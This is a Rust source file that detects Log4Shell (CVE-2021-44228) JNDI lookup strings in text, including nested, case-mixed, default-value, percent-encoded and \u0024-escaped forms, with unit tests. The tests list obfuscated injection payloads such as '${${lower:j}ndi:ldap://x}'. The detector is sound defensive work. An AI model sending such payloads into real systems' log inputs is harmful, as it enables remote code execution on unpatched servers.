//! Texts that attack: Log4Shell (CVE-2021-44228).
//!
//! This looks for what known attacks have in common. It is a net under software that cannot be patched
//! today, not a reason to leave it unpatched.

use std::borrow::Cow;

use memchr::memmem;

/// Lookups inside lookups that are followed; whoever nests deeper means harm.
const DEPTH: usize = 32;

/// Whether a text holds a log4j lookup of `jndi:`, written out or put together by other lookups
/// (`${${lower:j}ndi:…}`, `${${::-j}ndi:…}`), plain, percent-encoded or with `\u0024` escapes.
///
/// Cost: one search when there is no `$`, `%24` or `\u0024` in it; else linear in the text.
#[must_use]
pub fn has_jndi_lookup(text: &[u8]) -> bool {
    if looks_up_jndi(text) {
        return true;
    }
    let decoded = percent_decoded(text);
    (matches!(decoded, Cow::Owned(_)) && looks_up_jndi(&decoded)) || {
        let unescaped = unescaped(&decoded);
        matches!(unescaped, Cow::Owned(_)) && looks_up_jndi(&unescaped)
    }
}

fn looks_up_jndi(text: &[u8]) -> bool {
    let Some(start) = memmem::find(text, b"${") else {
        return false;
    };
    let mut open: Vec<Vec<u8>> = Vec::new();
    let mut rest = text.get(start..).unwrap_or_default();
    while let Some((first, after)) = rest.split_first() {
        if let Some(inside) = rest.strip_prefix(b"${") {
            if open.len() == DEPTH {
                return true;
            }
            open.push(Vec::new());
            rest = inside;
            continue;
        }
        rest = after;
        if *first != b'}' {
            if let Some(lookup) = open.last_mut() {
                lookup.push(first.to_ascii_lowercase());
            }
        } else if let Some(lookup) = open.pop() {
            if is_jndi(&lookup) {
                return true;
            }
            if let Some(outer) = open.last_mut() {
                outer.extend_from_slice(&resolved(&lookup));
            }
        }
    }
    // log4j wants the closing brace, but the text may be cut where we cannot see.
    open.iter().any(|lookup| is_jndi(lookup))
}

fn is_jndi(lookup: &[u8]) -> bool {
    lookup.trim_ascii_start().starts_with(b"jndi:")
}

/// What log4j would put in place of a lookup, as far as an attacker can choose it.
fn resolved(lookup: &[u8]) -> Cow<'_, [u8]> {
    for name in [&b"lower:"[..], b"upper:"] {
        if let Some(text) = lookup.strip_prefix(name) {
            return Cow::Borrowed(text);
        }
    }
    if let Some(format) = lookup.strip_prefix(b"date:") {
        return format
            .iter()
            .copied()
            .filter(|byte| *byte != b'\'')
            .collect();
    }
    let default = memmem::find(lookup, b":-").and_then(|at| lookup.get(at + 2..));
    Cow::Borrowed(default.unwrap_or_default())
}

fn percent_decoded(text: &[u8]) -> Cow<'_, [u8]> {
    decoded(text, b"%", 2)
}

fn unescaped(text: &[u8]) -> Cow<'_, [u8]> {
    decoded(text, b"\\u00", 2)
}

/// Replace `mark` and the hexadecimal digits after it by the byte they mean.
fn decoded<'a>(text: &'a [u8], mark: &[u8], digits: usize) -> Cow<'a, [u8]> {
    let mut out: Option<Vec<u8>> = None;
    let mut copied = 0;
    for at in memmem::find_iter(text, mark) {
        let start = at + mark.len();
        let byte = text
            .get(start..start + digits)
            .filter(|hex| hex.iter().all(u8::is_ascii_hexdigit))
            .and_then(|hex| std::str::from_utf8(hex).ok())
            .and_then(|hex| u8::from_str_radix(hex, 16).ok());
        if let Some(byte) = byte {
            let out = out.get_or_insert_with(|| Vec::with_capacity(text.len()));
            out.extend_from_slice(text.get(copied..at).unwrap_or_default());
            out.push(byte);
            copied = start + digits;
        }
    }
    match out {
        None => Cow::Borrowed(text),
        Some(mut out) => {
            out.extend_from_slice(text.get(copied..).unwrap_or_default());
            Cow::Owned(out)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_lookup_of_jndi_is_found_however_it_is_written() {
        for text in [
            "${jndi:ldap://x/a}",
            "${JnDi:ldap://x/a}",
            "a ${jndi:rmi://x",
            "${${lower:j}ndi:ldap://x}",
            "${${lower:J}${upper:n}d${lower:i}:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
            "${${env:NOPE:-j}ndi${sys:x:-:}ldap://x}",
            "${j${k8s:a:-n}d${date:'i'}:dns://x}",
            "${${lower:${lower:jndi}}:ldap://x}",
            "%24%7Bjndi:ldap://x%7D",
            "%24%7bjndi%3aldap",
            r"\u0024\u007bjndi:ldap://x}",
            "}}${ jndi:ldap://x}",
        ] {
            assert!(has_jndi_lookup(text.as_bytes()), "{text}");
        }
        assert!(has_jndi_lookup("${".repeat(40).as_bytes()));
    }

    #[test]
    fn other_texts_pass() {
        for text in [
            "",
            "jndi:ldap://x",
            "{jndi:ldap}",
            "$jndi:x",
            "${lower:jndi:}",
            "${name:-jndi:x}",
            "100% of ${env:HOME} and \\u00zz %zz %",
            "${a}${b}",
        ] {
            assert!(!has_jndi_lookup(text.as_bytes()), "{text}");
        }
    }
}
